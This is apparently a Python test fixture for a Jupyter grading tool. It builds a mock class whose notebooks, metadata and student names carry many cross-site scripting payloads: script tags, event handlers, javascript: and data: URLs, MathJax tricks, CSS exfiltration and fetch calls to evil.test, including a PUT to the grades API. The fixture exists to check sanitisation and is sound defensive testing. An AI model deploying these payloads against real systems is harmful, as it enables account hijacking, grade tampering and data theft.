"""A class whose notebooks try to run something in the browser of whoever looks at them, graded by the command.

Everything that they try would call `window.ran(...)`, change `window.ran`, or ask `evil.test` for something.
"""

import base64
import json
from pathlib import Path

from tests.browser.graded import grade
from tests.browser.lab_server import CONFIGURATION, copy_course
from tests.grading.small_course import UNIT, Submission, write_small_course

_RUN = "window.ran='{0}';top.ran='{0}';fetch('http://evil.test/{0}');fetch('/formgrader/api/grades',{{method:'PUT'}})"


def script(name: str) -> str:
    """JavaScript that would leave a trace."""
    return _RUN.format(name)


def _data(kind: str, text: str) -> str:
    return f"data:{kind};base64,{base64.b64encode(text.encode()).decode()}"


def _html(name: str) -> dict[str, str]:
    js = script(name)
    page = f"<script>{js}</script>"
    return {
        "script": page,
        "script-split": f"<scr<script>ipt>{js}</scr</script>ipt>",
        "script-src": "<script src=http://evil.test/x.js></script>",
        "module": f'<script type=module>{js}</script><script type="text/x-mathjax-config">{js}</script>',
        "img": f'<img src=x onerror="{js}">',
        "img-far": "<img src=http://evil.test/pixel.png><picture><source srcset=http://evil.test/p2.png></picture>",
        "svg": f'<svg onload="{js}"><script>{js}</script><animate onbegin="{js}" attributeName=x dur=1s></svg>',
        "svg-use": f"<svg><use href=\"{_data('image/svg+xml', f'<svg onload={js!r}/>')}\"></use></svg>",
        "iframe": f'<iframe srcdoc="<script>{js}</script>"></iframe><iframe src="javascript:{js}"></iframe>',
        "object": f"<object data=\"{_data('text/html', page)}\"></object><embed src=\"{_data('text/html', page)}\">",
        "link": "<link rel=stylesheet href=http://evil.test/x.css><link rel=prefetch href=http://evil.test/y>",
        "css": "<style>@import url(http://evil.test/i.css);input[value^=a]{background:url(http://evil.test/a)}"
               "*{background:url(http://evil.test/all)}</style><p style='background:url(http://evil.test/inline)'>",
        "base": "<base href=http://evil.test/><meta http-equiv=refresh content='0;url=http://evil.test/m'>",
        "form": f"<form action=http://evil.test/f><button autofocus onfocus=\"{js}\">x</button></form>"
                f'<input autofocus onfocus="{js}"><details open ontoggle="{js}">',
        "anchor": f'<a href="javascript:{js}">a link</a><a href="{_data("text/html", page)}">another</a>',
        "closing": f"</pre></div></body></html>--><!--><script>{js}</script>]]><script>{js}</script>",
        "media": f'<video src=http://evil.test/v onerror="{js}"><audio src=x onerror="{js}">',
        "entities": f"&lt;script&gt;{js}&lt;/script&gt;&#60;img src=x onerror={js}&#62;",
        "template": f"<template><script>{js}</script></template><noscript><p title='</noscript><img src=x onerror={js}>'>",
        "math": f'<math><mtext><table><mglyph><style><img src=x onerror="{js}"></style></mglyph></table></mtext></math>',
    }  # fmt: skip


def _markdown(name: str) -> str:
    js = script(name)
    links = "\n\n".join(
        (
            f"[a link](javascript:{js})",
            f"[a link]( JaVa\tScript:{js})",
            f"[a link](&#106;avascript&colon;{js})",
            "[a link][far]\n\n[far]: javascript:window.ran=1",
            f"<javascript:{js}>",
            f"[data](data:text/html,<script>{js}</script>)",
            "![picture](http://evil.test/picture.png)",
            "![picture][far2]\n\n[far2]: http://evil.test/picture2.png",
            "![](attachment:x.svg)",
            f'`` <b onclick="{js}">` `` </code><script>{js}</script>',
            "$\\href{javascript:window.ran=1}{x}$ $$\\require{html}\\href{javascript:window.ran=1}{y}$$",
            "$\\newcommand{\\h}{\\href}\\h{javascript:window.ran=1}{z}$ $\\let\\go\\href \\go{javascript:window.ran=1}{z}$",
            "$\\style{background:url(http://evil.test/mathstyle)}{x}$ $\\class{</span><script>window.ran=1</script>}{x}$",
            "$\\unicode{x3c}\\text{<img src=x onerror=window.ran=1>}$ $\\includegraphics{http://evil.test/tex.png}$",
            f"<details open ontoggle={js}>",
        )
    )
    return links + "\n\n" + "\n\n".join(_html(name).values())


def _outputs(name: str) -> str:
    """A cell that shows the same by every way of IPython's."""
    js, everything = script(name), "".join(_html(name).values())
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"><script>{js}</script></svg>'
    return f"""
import sys
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, Image, display, publish_display_data
html, js = {everything!r}, {js!r}
display(HTML(html)); display(Javascript(js)); display(SVG(data={svg!r})); display(Markdown({_markdown(name)!r}))
display(Latex(r"$\\href{{javascript:window.ran=1}}{{x}}$")); display(Image(url="http://evil.test/image.png"))
png = b"\\x89PNG\\r\\n\\x1a\\n" + html.encode()
for kind in ("text/html", "application/javascript", "text/markdown", "image/svg+xml", "text/latex", "application/json", "text/plain",
             "application/vnd.jupyter.widget-view+json", "application/vnd.plotly.v1+json", "image/jpeg", "text/html; charset=utf-8"):
    publish_display_data({{kind: html}})
publish_display_data({{"image/png": png}}, {{"image/png": {{"width": '1" onload="' + js, "height": '1"><script>' + js + "</script>"}}}})
publish_display_data({{"image/png": '" onerror="' + js}}); publish_display_data({{"text/plain": "x"}}, {{"isolated": True}})
print(html); print(html, file=sys.stderr)
print("\\x1b[31m" + html + "\\x1b[0m \\x1b]8;;javascript:" + js + "\\x07link\\x1b]8;;\\x07 \\x1b[38;5;1\\"onload=\\"" + js + "m")
class Odd:
    def _repr_html_(self): return html
    def _repr_javascript_(self): return js
    def _repr_mimebundle_(self, **more): return {{"text/html": html, "application/javascript": js}}
    def __repr__(self): return html
display(Odd()); sys.displayhook(Odd())
print("x" * 3_000_000)
raise type("</pre><script>window.ran=1</script>", (Exception,), {{}})(html)
"""


def _returns(name: str) -> str:
    html = "".join(_html(name).values())
    return f"""def centre(x):
    print({html!r})
    return type({html!r}.replace("\\0", ""), (), {{}})()
"""


def _raises(name: str) -> str:
    return f"""def softmax(x):
    \"\"\"</textarea></pre><script>{script(name)}</script>\"\"\"
    raise type("<img src=x onerror=window.ran=1>", (Exception,), {{}})({"".join(_html(name).values())!r})  # <script>{script(name)}</script>
"""


def _submissions(course: Path) -> dict[str, Submission]:
    made: dict[str, Submission] = {}
    every = Submission(course, solved=True)
    every.own_first(_outputs("outputs")).own_last("# </pre></div><script>window.ran='source'</script>\n1")
    every.cells.append({"cell_type": "markdown", "source": _markdown("markdown"), "metadata": {},
                        "attachments": {"x.svg": {"image/svg+xml": f"<svg onload={script('attachment')!r}/>"}}})  # fmt: skip
    every.cells.append({"cell_type": "raw", "source": _markdown("raw"), "metadata": {"format": "text/html"}})
    every.notebook["metadata"].update(
        title=f"<script>{script('title')}</script>",
        kernelspec={"name": f"<script>{script('kernel')}</script>", "display_name": "<img src=x onerror=window.ran=1>"},
        widgets={
            "application/vnd.jupyter.widget-state+json": {
                "state": {},
                "version": "</script><script>window.ran=1</script>",
            }
        },
    )
    for cell in every.cells:
        cell["metadata"]["slideshow"] = {"slide_type": f'"><script>{script("metadata")}</script>'}
        cell["id"] = f'"><script>{script("id")}</script>'
    made["outputs"] = every
    made["answers"] = Submission(course).write("centre", _returns("returned")).write("softmax", _raises("raised"))
    made["answers"].write("why", _markdown("written"))
    for name, html in _html("one").items():
        made[f"one-{name}"] = Submission(course).write("why", html.replace("'one'", f"'{name}'"))
    # Names of learners come from folders; nbgrader's own pages show them as well.
    made["<img src=x onerror=window.ran='name'>"] = Submission(course).write("why", "An answer.")
    made["'\"><svg onload=window.ran='name2'>"] = Submission(course).write("why", "Another answer.")
    made["honest"] = Submission(course, solved=True).write("why", "So that $p < 1$ has a **gradient**.")
    return made


def write_hostile_class(root: Path) -> Path:
    """A course root with all that, handed in and graded."""
    write_small_course(root)
    copy_course(root, CONFIGURATION)
    for student, submission in _submissions(root).items():
        submission.hand_in(root, student)
    grade(root, "--seed", "4")
    return root


def scores(root: Path) -> dict[str, float]:
    records = [json.loads(path.read_text(encoding="utf-8")) for path in root.glob(f"autograded/*/{UNIT}/record.json")]
    return {record["student"]: sum(row["score"] for row in record["exercises"]) for record in records}
